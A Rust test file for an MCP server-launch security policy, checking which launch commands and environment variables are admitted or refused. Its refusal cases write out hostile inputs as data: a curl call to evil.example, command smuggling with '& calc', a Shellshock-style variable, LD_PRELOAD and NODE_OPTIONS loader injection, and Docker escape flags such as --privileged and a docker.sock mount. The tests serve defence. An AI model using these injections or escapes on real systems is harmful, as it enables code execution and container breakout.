//! Commands and environments.

use std::collections::BTreeMap;

use mcp_core::{Environment, Guard, LaunchSpec};
use mcp_security::{Level, Policy, Rules, command, env, limits};

use crate::{admit, argv, server};

#[test]
fn published_configurations_start() {
    for line in [
        "npx -y mcp-discord --config YOUR_DISCORD_TOKEN",
        "npx -y mcp-discord@1.3.4",
        "npx @playwright/mcp@latest --browser=chrome --caps=vision,pdf --user-data-dir=/tmp/playwright-profile",
        "npx -y @modelcontextprotocol/server-filesystem /home/user/projects",
        "npx --yes --package=@acme/mcp@1.4.0 -- acme-mcp -c conf.ini",
        "npx -y @acme/mcp -c /etc/acme.json",
        "uvx --with fastmcp<5 --from x-twitter-mcp==0.1.15 x-twitter-mcp-server",
        "uvx mcp-server-fetch -c x",
        "uv run server.py",
        "uv run --with mcp[cli] mcp run server.py",
        "uv --directory /home/user/weather run weather.py",
        "uv tool run mcp-server-git --repository .",
        "python3 ../mcp_servers/simple_test_server.py",
        "python -u -m acme_mcp -c conf.ini",
        "python -W ignore -X utf8 server.py -i",
        "py -3.12 server.py",
        "node --max-old-space-size=4096 --enable-source-maps build/index.js -e dev",
        "node build/index.js",
        "deno run --allow-net server.ts",
        "bun run server.ts",
        "docker run -i --rm -e GITHUB_TOKEN ghcr.io/github/github-mcp-server",
        "docker run -i --rm -v /home/user/data:/data mcp/filesystem /data",
        "docker run -i --rm --mount type=bind,src=/home/user/p,dst=/p,ro mcp/filesystem --privileged",
        "cmd /c npx -y @modelcontextprotocol/server-memory",
        "env TZ=UTC nice -n 5 node server.js",
        "timeout 3600 python server.py",
        "bash /home/user/start-server.sh -c",
        "sh -eu start.sh",
        "/opt/acme/bin/acme-mcp --stdio",
        "java -jar server.jar",
        "dotnet run --project Server.csproj",
        "git-mcp",
        "pwsh -NoProfile -File server.ps1",
        "C:/tools/server.exe --stdio",
    ] {
        let words: Vec<&str> = line.split(' ').collect();
        assert_eq!(admit(Level::Moderate, &words), Ok(()), "{line}");
    }
}

#[test]
fn code_inside_a_command_line_is_refused() {
    let cases: &[(&[&str], &str)] = &[
        (&["bash", "-c", "x"], "inline-program"),
        (&["/bin/sh", "-lc", "x"], "inline-program"),
        (&["bash", "-o", "pipefail", "-ec", "x"], "inline-program"),
        (&["bash", "--norc", "-c", "x"], "inline-program"),
        (&["bash"], "inline-program"),
        (&["bash", "-s", "x"], "inline-program"),
        (&["busybox", "sh", "-c", "x"], "inline-program"),
        (&["BASH.EXE", "-c", "x"], "inline-program"),
        (&["fish", "--command=x"], "inline-program"),
        (&["cmd", "/c", "npx", "a", "&", "calc"], "inline-program"),
        (&["cmd", "/c", "npx a & calc"], "inline-program"),
        (&["cmd.exe", "/k", "x"], "inline-program"),
        (&["powershell", "-Command", "x"], "inline-program"),
        (&["pwsh", "-NoProfile", "-enc", "eA=="], "inline-program"),
        (&["python", "-c", "x"], "inline-program"),
        (&["python3.12", "-Ic", "x"], "inline-program"),
        (&["python", "-W", "ignore", "-c", "x"], "inline-program"),
        (&["python", "-"], "inline-program"),
        (&["python"], "inline-program"),
        (&["python", "-m", "code"], "inline-program"),
        (&["python", "/dev/fd/3"], "loader"),
        (&["node", "-e", "x"], "inline-program"),
        (&["node", "--eval=x"], "inline-program"),
        (&["node", "-p", "x"], "inline-program"),
        (&["node"], "inline-program"),
        (&["node", "--require", "/tmp/x.js", "s.js"], "runner-option"),
        (&["node", "--import=/tmp/x.js", "s.js"], "runner-option"),
        (&["deno", "eval", "x"], "inline-program"),
        (&["bun", "-e", "x"], "inline-program"),
        (&["perl", "-e", "x"], "inline-program"),
        (&["perl", "-we", "x"], "inline-program"),
        (&["ruby", "-e", "x"], "inline-program"),
        (&["php", "-r", "x"], "inline-program"),
        (&["osascript", "-e", "x"], "inline-program"),
        (&["npx", "-c", "x"], "inline-program"),
        (&["npx", "-y", "-p", "@acme/mcp", "-c", "touch x"], "inline-program"),
        (&["npx", "--call=x"], "inline-program"),
        (&["npx", "-yc", "x"], "inline-program"),
        (&["npm", "exec", "-c", "x"], "inline-program"),
        (&["npx", "--node-options=--require=/tmp/x.js", "a"], "runner-option"),
        (&["npx", "--registry=http://r.example", "a"], "runner-option"),
        (&["npx", "--registry", "http://r.example", "a"], "runner-option"),
        (&["uv", "run", "bash", "-c", "x"], "inline-program"),
        (&["uv", "run", "--with", "x", "python", "-c", "x"], "inline-program"),
        (&["uv", "run", "-"], "inline-program"),
        (&["env", "bash", "-c", "x"], "inline-program"),
        (&["env", "-i", "A=1", "nice", "-n", "5", "bash", "-c", "x"], "inline-program"),
        (&["env", "-S", "bash -c x"], "inline-program"),
        (&["env", "LD_PRELOAD=/tmp/x.so", "node", "s.js"], "loader-variable"),
        (&["timeout", "-k", "5", "60", "sh", "-c", "x"], "inline-program"),
        (&["env", "env", "env", "env", "env", "node", "s.js"], "runner-option"),
        (&["sudo", "node", "s.js"], "privilege"),
        (&["docker", "run", "--privileged", "x"], "container-option"),
        (&["docker", "run", "-i", "-v", "/:/host", "x"], "container-option"),
        (&["docker", "run", "-v", "/var/run/docker.sock:/s", "x"], "container-option"),
        (&["docker", "run", "--pid=host", "x"], "container-option"),
        (&["docker", "run", "--cap-add", "ALL", "x"], "container-option"),
        (&["docker", "-H", "tcp://h:1", "run", "x"], "container-option"),
        (&["curl", "https://evil.example/s"], "not-a-server"),
        (&["npm", "install", "x"], "not-a-server"),
        (&["xargs", "sh", "-c", "x"], "not-a-server"),
        (&["npx\u{200b}", "x"], "hidden-character"),
        (&["npx", "\u{202e}txt.exe"], "hidden-character"),
        (&["npx.cmd", "\"&calc.exe"], "batch-arguments"),
        (&["server.bat. ", "x&calc"], "batch-arguments"),
        (&["", "x"], "empty-program"),
        (&["node", "a\0b"], "control-character"),
        (&["node\0", "a"], "control-character"),
        (&["/usr/bin/../../tmp/x"], "path-traversal"),
    ];
    for (words, rule) in cases {
        let refusal = admit(Level::Moderate, words).expect_err(&words.join(" "));
        let rule = if *rule == "loader" { "inline-program" } else { rule };
        assert_eq!(refusal.rule, rule, "{words:?}: {}", refusal.reason);
        assert!(!refusal.hint.is_empty());
    }
}

#[test]
fn permissive_lets_inline_programs_pass_but_nothing_malformed() {
    assert_eq!(admit(Level::Permissive, &["bash", "-lc", "x"]), Ok(()));
    assert_eq!(admit(Level::Permissive, &["bash", "-lc", "x\0"]).unwrap_err().rule, "control-character");
}

#[test]
fn strict_wants_a_known_launcher_or_a_listed_program() {
    assert_eq!(admit(Level::Strict, &["python3.13", "s.py"]), Ok(()));
    assert_eq!(admit(Level::Strict, &["acme-mcp"]).unwrap_err().rule, "program-list");
    let listed = |entry: &str, program: &str| {
        let allowed = Some([entry.to_owned()].into());
        let rules = Rules { level: Level::Strict, allowed_programs: allowed, ..Rules::default() };
        Policy::new(rules).admit_command(&server(), argv(&[program])).is_ok()
    };
    assert!(listed("acme-mcp", "acme-mcp"));
    assert!(listed("/opt/acme/acme-mcp", "/opt/acme/acme-mcp"));
    // A listed name is the program on PATH, not any file of that name.
    assert!(!listed("acme-mcp", "/tmp/evil/acme-mcp"));
}

#[test]
fn one_server_may_have_rules_of_its_own() {
    let policy = Policy::new(Rules::at(Level::Strict)).with_server(server(), Rules::at(Level::Moderate));
    assert!(policy.admit_command(&server(), argv(&["acme-mcp"])).is_ok());
    let other = mcp_core::ServerName::new("other").unwrap();
    assert!(policy.admit_command(&other, argv(&["acme-mcp"])).is_err());
}

#[test]
fn limits_hold_to_the_byte() {
    let with = |args: Vec<String>| {
        let spec = LaunchSpec { program: "acme".into(), args, ..LaunchSpec::default() };
        Policy::default().admit_command(&server(), spec).map(drop).map_err(|refusal| refusal.rule)
    };
    assert_eq!(with(vec!["a".into(); limits::ARGV_ITEMS - 1]), Ok(()));
    assert_eq!(with(vec!["a".into(); limits::ARGV_ITEMS]), Err("argv-limit"));
    assert_eq!(with(vec!["a".repeat(limits::ARGUMENT_BYTES)]), Ok(()));
    assert_eq!(with(vec!["a".repeat(limits::ARGUMENT_BYTES + 1)]), Err("argv-limit"));
    assert_eq!(with(vec!["a".repeat(limits::ARGUMENT_BYTES); 9]), Err("argv-limit"));
}

#[test]
fn a_split_command_is_judged_like_a_list() {
    let words = command::split("npx -y 'mcp-discord' --name=\"a & b\"").unwrap();
    let words: Vec<&str> = words.iter().map(String::as_str).collect();
    assert_eq!(admit(Level::Moderate, &words), Ok(()));
}

#[test]
fn a_child_inherits_the_pass_list_and_nothing_else() {
    let ambient = Environment::from_iter([
        ("PATH", "/usr/bin::.:/bin"),
        ("HOME", "/home/user"),
        ("LC_ALL", "C.UTF-8"),
        ("https_proxy", "http://proxy:1"),
        ("NODE_EXTRA_CA_CERTS", "/ca.pem"),
        ("UV_INDEX_URL", "https://index.example"),
        ("npm_config_cache", "/cache"),
        ("UV_PUBLISH_TOKEN", "secret"),
        ("npm_config__authToken", "secret"),
        ("OPENAI_API_KEY", "secret"),
        ("AWS_SECRET_ACCESS_KEY", "secret"),
        ("NODE_OPTIONS", "--require /tmp/x.js"),
        ("LD_PRELOAD", "/tmp/x.so"),
        ("LANG", "() { :; }; echo pwned"),
    ]);
    let declared = BTreeMap::from(
        [("HOME", "/elsewhere"), ("API_KEY", "for this server"), ("F", "() { :; }")]
            .map(|(name, value)| (name.to_owned(), value.to_owned())),
    );
    let child = env::child_environment(&ambient, &declared);
    let child: Vec<_> = child.iter().map(|(name, value)| (name.as_str(), value.as_str())).collect();
    assert_eq!(
        child,
        [
            ("API_KEY", "for this server"),
            ("HOME", "/elsewhere"),
            ("LC_ALL", "C.UTF-8"),
            ("NODE_EXTRA_CA_CERTS", "/ca.pem"),
            ("PATH", "/usr/bin:/bin"),
            ("UV_INDEX_URL", "https://index.example"),
            ("https_proxy", "http://proxy:1"),
            ("npm_config_cache", "/cache"),
        ]
    );
}

#[test]
fn variables_are_judged_by_name_and_value() {
    let cases = [
        ("DATABASE_URL", "postgresql://app:p%40ss@db:5432/x?a=b&c=d", None),
        ("CONNECTION", "Server=db;Database=x;", None),
        ("NODE_OPTIONS", "--max-old-space-size=4096", None),
        ("PYTHONPATH", "/home/user/src", None),
        ("EMPTY", "", None),
        ("NODE_OPTIONS", "--no-warnings --require /tmp/x.js", Some("loader-variable")),
        ("LD_PRELOAD", "/tmp/x.so", Some("loader-variable")),
        ("ld_preload", "/tmp/x.so", Some("loader-variable")),
        ("BASH_ENV", "/tmp/x", Some("loader-variable")),
        ("PYTHONPATH", ":/home/user/src", Some("loader-variable")),
        ("PATH", ".:/usr/bin", Some("loader-variable")),
        ("A=B", "x", Some("env-name")),
        ("", "x", Some("env-name")),
        ("A", "x\0", Some("control-character")),
    ];
    for (name, value, rule) in cases {
        let spec = LaunchSpec {
            program: "acme".into(),
            env: BTreeMap::from([(name.to_owned(), value.to_owned())]),
            ..LaunchSpec::default()
        };
        let verdict = Policy::default().admit_command(&server(), spec);
        assert_eq!(verdict.err().map(|refusal| refusal.rule), rule, "{name}={value}");
    }
}
